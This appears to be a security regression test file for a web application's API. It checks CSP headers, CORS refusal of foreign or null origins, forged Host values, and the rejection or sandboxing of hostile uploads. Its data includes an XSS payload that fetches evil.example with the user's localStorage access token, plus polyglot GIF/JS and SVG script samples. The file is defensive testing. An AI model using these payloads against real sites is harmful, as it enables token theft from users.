import { request } from 'node:http'
import sharp from 'sharp'
import { type Case, assert } from '../case.js'
import { join } from '../people.js'
import { newDatabase } from '../postgres.js'
import { start } from '../product.js'

const BROWSER = 'text/html,application/xhtml+xml,*/*;q=0.8'
const PATHS = [
  '/',
  '/login',
  '/graphql',
  '/graphql?query={__typename}',
  '/api/v1/docs',
  '/api/v1/openapi.json',
  '/api/v1/projects',
  '/api/v1/nothing',
  '/files/nothing',
  '/healthz',
  '/readyz',
  '/no-such-page',
  '/%',
  '/assets/none.js',
]
const OLD = [
  '/graphql/playground/iframe-sandbox/index.html?sc=http://evil.example',
  '/graphql/playground/iframe-sandbox/',
  '/graphql/playground/index.html',
  '/playground/index.html',
  '/dist-playground/index.html',
]
const FORGED_HOSTS = [
  '*',
  'a.example; script-src *',
  'evil.example wss://evil.example',
  "a.example,'unsafe-eval'",
  'user@evil.example',
  'a.example/..',
  '',
]
const SCRIPT = '<script>fetch("//evil.example/"+localStorage.access_token)</script>'

/** The content security policy in the response for this host; undefined if the host is rejected. */
const policyFor = (url: string, host: string): Promise<string | undefined> =>
  new Promise((resolve, reject) => {
    request(`${url}/login`, { headers: { host }, setHost: false }, (response) => {
      response.resume()
      resolve(response.headers['content-security-policy'] as string | undefined)
    })
      .on('error', reject)
      .end()
  })

const pages: Case = {
  name: 'Every kind of response forbids frames and evaluated strings; the page that evaluated posted data is gone',
  run: async () => {
    const { url, end } = await api()
    for (const path of PATHS) {
      const { headers } = await fetch(url + path, { headers: { accept: BROWSER } })
      const policy = headers.get('content-security-policy') ?? ''
      assert(/frame-ancestors 'none'|(^|; )sandbox(;|$)/.test(policy), `${path} may be framed: ${policy}`)
      assert(
        !/unsafe-eval|allow-same-origin|script-src[^;]*(unsafe-inline|\*)/.test(policy),
        `${path} runs what it is given: ${policy}`,
      )
      assert(headers.get('x-content-type-options') === 'nosniff', `${path} may be sniffed`)
    }
    for (const path of OLD) {
      const { status } = await fetch(url + path)
      assert(status === 404, `${path} answers ${status}`)
    }
    for (const host of FORGED_HOSTS) {
      const policy = await policyFor(url, host)
      assert(!policy || /connect-src 'self';/.test(policy), `the host ${host} is in the policy: ${policy}`)
    }
    await end()
    return `${PATHS.length} kinds of answers, ${OLD.length} old addresses, ${FORGED_HOSTS.length} forged hosts`
  },
}

const strangers: Case = {
  name: 'Pages without an origin, and of other origins, can neither write nor read',
  run: async () => {
    const { url, end } = await api()
    await join(url, 'ana')
    const page = await (await fetch(`${url}/graphql`, { headers: { accept: BROWSER } })).text()
    const key = /name="playground-key" content="([\w-]+)"/.exec(page)?.[1]
    assert(key, 'the playground has no key')
    const body = JSON.stringify({
      query: 'mutation ($input: RegisterInput!) { register(input: $input) { id } }',
      variables: {
        input: { email: 'mallory@example.com', username: 'mallory', password: 'correct horse battery' },
      },
    })
    const statuses: number[] = []
    for (const headers of [
      { origin: 'null' },
      { origin: 'null', 'x-playground-key': 'a'.repeat(43) },
      { origin: 'null', 'x-playground-key': `${key}a` },
    ] as Record<string, string>[]) {
      const answer = await fetch(`${url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body,
      })
      statuses.push(answer.status)
      assert(
        answer.status === 403 && !answer.headers.get('access-control-allow-origin'),
        `a page without an origin gets ${answer.status}`,
      )
    }
    for (const origin of [
      'http://evil.example',
      url.replace('127.0.0.1', 'localhost'),
      'https://null',
      'file://',
    ]) {
      const answer = await fetch(`${url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', origin, 'x-playground-key': key },
        body: '{"query":"{ __typename }"}',
      })
      assert(!answer.headers.get('access-control-allow-origin'), `${origin} may read`)
    }
    const own = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: 'null', 'x-playground-key': key },
      body,
    })
    const { data } = (await own.json()) as { data?: { register?: unknown } }
    assert(
      own.status === 200 && data?.register,
      'the playground itself is refused, or another page has created the account',
    )
    await end()
    return `${statuses.join(', ')} for strangers, 200 for the playground`
  },
}

const uploads: Case = {
  name: 'An uploaded page, script or SVG is never served as such, whatever its name',
  run: async () => {
    const { url, end } = await api()
    const mallory = await join(url, 'mallory')
    const picture = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#2f6f8f' } })
      .png()
      .toBuffer()
    const hostile: [string, string, string][] = [
      ['page.html', 'text/html', `<!doctype html>${SCRIPT}`],
      ['page.png', 'image/png', `<!doctype html>${SCRIPT}`],
      ['drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
      ['drawing.png', 'image/png', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
      ['code.js', 'text/javascript', 'alert(1)'],
      ['both.gif', 'image/gif', 'GIF89a/*'.padEnd(64, ' ') + '*/=1;alert(1)'],
    ]
    for (const [name, type, text] of hostile) {
      const { status } = await mallory.rest.upload('Harmless', new File([text], name, { type }))
      assert(status >= 400 && status < 500, `${name} is answered ${status}`)
    }
    const both = new File([new Uint8Array(picture), SCRIPT], 'both.html', { type: 'text/html' })
    const { status, body } = await mallory.rest.upload('An image with an appended page', both)
    assert(status < 300 || (status >= 400 && status < 500), `an image with an appended page gets ${status}`)
    const addresses =
      status < 300
        ? Object.values(body as Record<string, unknown>).filter(
            (value): value is string => typeof value === 'string' && value.includes('/files/'),
          )
        : []
    assert(status >= 300 || addresses.length, 'the image has no URL')
    for (const address of addresses) {
      for (const more of ['', '&download=page.html', '/../page.html']) {
        const { headers } = await fetch(new URL(address + more, url))
        const [type] = (headers.get('content-type') ?? '').split(';')
        assert(/^(image\/(png|webp)|application\/json)$/.test(type!), `${address}${more} is ${type}`)
        assert(
          headers.get('content-security-policy') === "default-src 'none'; sandbox" &&
            headers.get('x-content-type-options') === 'nosniff',
          `${address} is not sandboxed`,
        )
      }
    }
    await end()
    return `${hostile.length} refused; a picture with a page behind it: ${status}, ${addresses.length} addresses, pictures all`
  },
}

/** A separate installation. */
async function api() {
  const process_ = await start('api', { databaseUrl: await newDatabase() })
  return { url: process_.url, end: () => process_.end() }
}

export const cases: Case[] = [pages, strangers, uploads]
